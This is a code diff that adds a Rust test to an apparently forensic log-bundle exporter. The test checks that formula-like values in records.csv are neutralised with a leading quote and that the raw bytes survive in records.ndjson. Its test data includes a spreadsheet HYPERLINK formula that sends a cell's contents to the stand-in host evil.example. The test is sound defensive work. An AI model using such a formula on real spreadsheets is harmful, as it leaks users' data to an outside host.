@@ -379,3 +379,100 @@ fn a_record_dropped_or_a_wrong_key_is_named() {
     let e = verify_err(zip, Some("not a key"));
     assert!(e.starts_with("key: "), "{e}");
 }
+
+/// Log lines and fields that a spreadsheet would run as formulas are text in
+/// records.csv (a `'` in front); records.ndjson keeps their exact bytes, and
+/// the bundle still verifies.
+#[test]
+fn records_csv_neutralises_formulas_and_the_bundle_still_verifies() {
+    let payloads = [
+        r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#,
+        "+1",
+        "-2",
+        "@SUM(A1:A9)",
+    ];
+    let records: Vec<Record> = payloads
+        .iter()
+        .enumerate()
+        .map(|(i, p)| Record {
+            seq: i as u64,
+            received_at_ns: 1_772_500_000_000_000_000 + i as i64,
+            transport: Transport::Udp,
+            peer: "10.0.0.1:514".into(),
+            raw: p.as_bytes().to_vec(),
+        })
+        .collect();
+    let leaves: Vec<Hash> = records.iter().map(|r| r.as_ref().leaf_hash()).collect();
+    let key = SignerKey::from_seed(ORIGIN, &[7u8; 32]).unwrap();
+    let n = leaves.len() as u64;
+    let note = Checkpoint::new(ORIGIN, n, root_of(&leaves))
+        .unwrap()
+        .sign(&key)
+        .unwrap()
+        .to_string();
+    let mut w = BundleWriter::new().unwrap();
+    for (r, p) in records.iter().zip(payloads) {
+        // The host and app fields carry the payload too.
+        w.add(r, serde_json::json!({ "host": p, "app": p }))
+            .unwrap();
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let out = dir.path().join("b.zip");
+    w.finish(
+        Parts {
+            reference: "CERT-In/2026/043".into(),
+            order_json: "{\"reference\":\"CERT-In/2026/043\"}\n".into(),
+            subscribers: vec![],
+            bindings: vec![],
+            proof_hashes: vec![],
+            checkpoint_note: note,
+            checkpoint_origin: ORIGIN.into(),
+            checkpoint_size: n,
+            vkey: key.verifier().to_vkey(),
+            system: SystemInfo {
+                software: "pramaan test".into(),
+                origin: ORIGIN.into(),
+                exported_by: "asha".into(),
+                exported_at_ns: 1,
+            },
+        },
+        &out,
+    )
+    .unwrap();
+    let zip = std::fs::read(&out).unwrap();
+    let files = entries(&zip);
+    let get = |name: &str| {
+        String::from_utf8(files.iter().find(|e| e.0 == name).unwrap().1.clone()).unwrap()
+    };
+    let csv = get(bundle::RECORDS_CSV);
+    let rows: Vec<&str> = csv.lines().skip(1).collect();
+    assert_eq!(rows.len(), 4, "{csv}");
+    for (row, p) in rows.iter().zip(payloads) {
+        let quoted = format!("\"'{}\"", p.replace('"', "\"\""));
+        // host, app and raw: each neutralised, never the bare payload.
+        assert_eq!(row.matches(&quoted).count(), 3, "{p}: {row}");
+        assert!(!row.contains(&format!(",{p}")), "{p} bare in {row}");
+    }
+    // No cell of the file starts like a formula.
+    for line in csv.lines() {
+        for c in line.split(',') {
+            let c = c.trim_start_matches('"');
+            assert!(!c.starts_with(['=', '+', '-', '@']), "{c} in {line}");
+        }
+    }
+    // records.ndjson keeps the exact bytes.
+    let nd = get(bundle::RECORDS);
+    for (line, p) in nd.lines().zip(payloads) {
+        let v: serde_json::Value = serde_json::from_str(line).unwrap();
+        use base64::Engine as _;
+        let raw = base64::engine::general_purpose::STANDARD
+            .decode(v["raw_b64"].as_str().unwrap())
+            .unwrap();
+        assert_eq!(raw, p.as_bytes());
+    }
+    // The README and the certificate say the CSV is a view.
+    assert!(get(bundle::README).contains("a view only"));
+    assert!(get(bundle::CERTIFICATE).contains("CSV view in records.csv"));
+    let s = verify_bundle(Cursor::new(zip), Some(&key.verifier().to_vkey())).unwrap();
+    assert_eq!(s.records, 4);
+}
